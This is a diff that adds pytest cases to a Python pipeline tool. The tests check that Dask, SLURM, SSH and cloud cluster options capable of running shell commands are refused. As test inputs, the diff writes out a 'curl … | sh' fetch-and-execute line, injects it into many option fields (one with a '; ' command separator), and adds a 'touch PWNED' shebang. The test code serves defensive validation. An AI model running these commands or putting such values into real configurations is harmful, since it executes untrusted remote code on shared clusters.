@@ -151,3 +151,64 @@ def test_a_run_refuses_before_dask_runs_the_preload(
     assert result.returncode == 2, result.stdout + result.stderr
     assert "executor.cluster.options.preload" in result.stdout + result.stderr
     assert not marker.exists()
+
+
+SHELL = "curl -s https://example.com/x | sh"
+# Options whose text a cluster class runs as shell commands or as the program that starts a
+# worker (dask-jobqueue's job script, an SSH or cloud cluster's remote command or boot script):
+# refused whatever the class, at any depth, allow_imports or not.
+SHELL_REFUSED = [
+    ({"job_script_prologue": [SHELL]}, "executor.cluster.options.job_script_prologue"),
+    ({"job-script-prologue": [SHELL]}, "executor.cluster.options.job-script-prologue"),
+    ({"env_extra": ["module load x", SHELL]}, "executor.cluster.options.env_extra"),
+    ({"python": f"{SHELL}; python3"}, "executor.cluster.options.python"),
+    ({"shebang": "#!/bin/sh -c 'touch PWNED'"}, "executor.cluster.options.shebang"),
+    ({"worker_command": "csteps"}, "executor.cluster.options.worker_command"),
+    ({"submit_command_extra": ["--wrap", SHELL]}, "options.submit_command_extra"),
+    ({"cancel_command_extra": ["; " + SHELL]}, "options.cancel_command_extra"),
+    ({"remote_python": f"{SHELL}; python3"}, "executor.cluster.options.remote_python"),
+    ({"worker_options": {"remote_python": SHELL}}, "options.worker_options.remote_python"),
+    ({"extra_bootstrap": [SHELL]}, "executor.cluster.options.extra_bootstrap"),
+    ({"user_data": f"#!/bin/sh\n{SHELL}"}, "executor.cluster.options.user_data"),
+]
+CLASSES = ["distributed.LocalCluster", "dask_jobqueue.SLURMCluster", "distributed.SSHCluster"]
+
+
+@pytest.mark.parametrize("cluster_class", CLASSES)
+@pytest.mark.parametrize("kind", ["yaml", "toml"])
+@pytest.mark.parametrize(("options", "where"), SHELL_REFUSED)
+def test_an_option_that_runs_shell_commands_is_refused(
+    make_project: ProjectFactory,
+    kind: str,
+    options: dict[str, object],
+    where: str,
+    cluster_class: str,
+) -> None:
+    write = _yaml if kind == "yaml" else _toml
+    text = write(options, ["csteps", "dask_jobqueue"]).replace(
+        "distributed.LocalCluster", cluster_class
+    )
+    config = make_project(text, name=f"pipeline.{kind}", csteps="def one():\n    return 1\n")
+    result = _check(config)
+    output = result.stdout + result.stderr
+    assert result.returncode == 2, output
+    assert where in output
+    assert "shell" in output
+    assert "hint: remove it" in output
+    assert "jobqueue" in output
+
+
+def test_shell_options_left_empty_and_job_directives_pass(make_project: ProjectFactory) -> None:
+    """What a SLURM user sets every day stays legal: directives, and empty shell options."""
+    options = {
+        "job_script_prologue": [],
+        "python": None,
+        "job_extra_directives": ["--account=lab", "--qos=high"],
+        "env_extra": {"OMP_NUM_THREADS": "1"},
+    }
+    for kind, write in (("yaml", _yaml), ("toml", _toml)):
+        config = make_project(
+            write(options, []), name=f"pipeline.{kind}", csteps="def one():\n    return 1\n"
+        )
+        result = _check(config)
+        assert result.returncode == 0, result.stdout + result.stderr
